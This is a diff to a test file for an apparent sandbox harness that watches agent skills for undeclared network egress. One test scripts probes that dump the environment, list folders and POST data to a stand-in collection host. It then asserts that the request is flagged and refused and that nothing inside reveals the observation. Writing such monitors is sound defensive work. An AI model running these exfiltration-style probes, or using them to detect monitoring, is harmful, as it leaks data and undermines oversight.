@@ -32,7 +32,7 @@ async function steps(skill: string): Promise<string[]> {
 /** A turn of `openclaw agent --local` inside takes one to three minutes on a loaded 2-core machine. */
 const SLOW = 1_200_000;
 
-async function test(skill: string, extra: { policyFile?: string; prompts?: string[]; moreSteps?: string[] } = {}): Promise<SkillReport> {
+async function test(skill: string, extra: { policyFile?: string; prompts?: string[]; moreSteps?: string[]; keep?: boolean } = {}): Promise<SkillReport> {
   stub.options.script = execScript([...(await steps(skill)), ...(extra.moreSteps ?? [])]);
   const report = await runSkillTest(
     h.driver,
@@ -44,15 +44,15 @@ async function test(skill: string, extra: { policyFile?: string; prompts?: strin
       prompts: extra.prompts ?? [],
       timeoutS: 120,
       route: { provider: "vllm", model: "stub-model", baseUrl: stub.baseUrl },
-      keep: false,
+      keep: extra.keep === true,
       ...(extra.policyFile === undefined ? {} : { policyFile: extra.policyFile }),
     },
     () => {},
   );
   // What a failing assertion is about.
   console.log(JSON.stringify({ skill, verdict: report.verdict, egress: report.egress, toolCalls: report.toolCalls, files: report.files, prompts: report.prompts.map((p) => ({ exitCode: p.exitCode, durationMs: p.durationMs })) }, null, 1));
-  // Destroyed: no container or record left behind.
-  expect((await h.driver.list()).map((s) => s.name)).not.toContain(report.sandbox.name);
+  // Destroyed: no container or record left behind (kept: the caller destroys it).
+  if (extra.keep !== true) expect((await h.driver.list()).map((s) => s.name)).not.toContain(report.sandbox.name);
   return report;
 }
 
@@ -107,23 +107,31 @@ describe("skill test", () => {
 
   it("an unknown host its SKILL.md never names: undeclared-host, with the POST it sent (exit 2); from inside, nothing says it is watched", async () => {
     // What a suspicious skill would look at: its environment, the home folder, and the answer
-    // to a refused request — which must be enforce mode's "not in policy", word for word.
+    // to a refused request — which must be enforce mode's "not in policy", word for word. Each
+    // lands in the workspace; the sandbox is kept so the test can read them, then destroyed.
     const probes = [
-      `env | grep -i -E "test|observ|skill|openclaw-local|turns" ; echo env-checked`,
-      "ls -a /sandbox /sandbox/workspace 2>&1",
-      `node -e 'fetch("http://collect.metrics-hub.example/ingest",{method:"POST",body:"x"}).then(async r=>console.log("status "+r.status+" "+await r.text()),e=>console.log(String(e)))'`,
+      "env > /sandbox/workspace/probe-env.txt",
+      "ls -a /sandbox /sandbox/workspace > /sandbox/workspace/probe-ls.txt 2>&1",
+      `node -e 'fetch("http://collect.metrics-hub.example/ingest",{method:"POST",body:"x"}).then(async r=>console.log(r.status+" "+await r.text()),e=>console.log(String(e)))' > /sandbox/workspace/probe-refusal.txt`,
     ];
-    const r = await test("note-tidy", { prompts: ["Use the note-tidy skill."], moreSteps: probes });
+    const r = await test("note-tidy", { prompts: ["Use the note-tidy skill."], moreSteps: probes, keep: true });
+    const read = async (file: string) => (await h.driver.execCapture(r.sandbox.name, ["cat", `/sandbox/workspace/${file}`])).stdout;
+    let env: string, listing: string, refusal: string;
+    try {
+      [env, listing, refusal] = [await read("probe-env.txt"), await read("probe-ls.txt"), await read("probe-refusal.txt")];
+    } finally {
+      await h.driver.destroy(r.sandbox.name);
+    }
     expect(codes(r)).toEqual(["undeclared-host"]);
     expect(evidence(r, "undeclared-host")).toContain("/usr/local/bin/node -> collect.metrics-hub.example:443 POST /ingest");
     expect(r.exitCode).toBe(2);
-    const result = (command: string) => r.toolCalls.find((c) => c.tool === "exec" && c.text === command)?.result ?? "";
-    expect(result(probes[0] as string).trim()).toMatch(/^env-checked/);
-    expect(result(probes[1] as string)).not.toMatch(/test|observ|openclaw-local|turns/i);
-    const refused = /status (\d+) (\{.*\})/s.exec(result(probes[2] as string));
-    expect(refused?.[1]).toBe("403");
+    expect(env).toContain("HTTPS_PROXY=");
+    expect(env).not.toMatch(/test|observ|skill|turns/i);
+    expect(listing).toContain("AGENTS.md");
+    expect(listing).not.toMatch(/test|observ|openclaw-local|turns|incoming/i);
     const host = "collect.metrics-hub.example";
-    expect(JSON.parse(refused?.[2] ?? "{}")).toEqual(denial("not in policy", host, 80, null, `no network policy allows ${host}:80`, nextStep(r.sandbox.name, "unknown")));
+    expect(refusal.slice(0, 4)).toBe("403 ");
+    expect(JSON.parse(refusal.slice(4))).toEqual(denial("not in policy", host, 80, null, `no network policy allows ${host}:80`, nextStep(r.sandbox.name, "unknown")));
   }, SLOW);
 
   it("the good skill under a policy that lacks its host: the attempt is a denial, nothing risky (exit 3)", async () => {
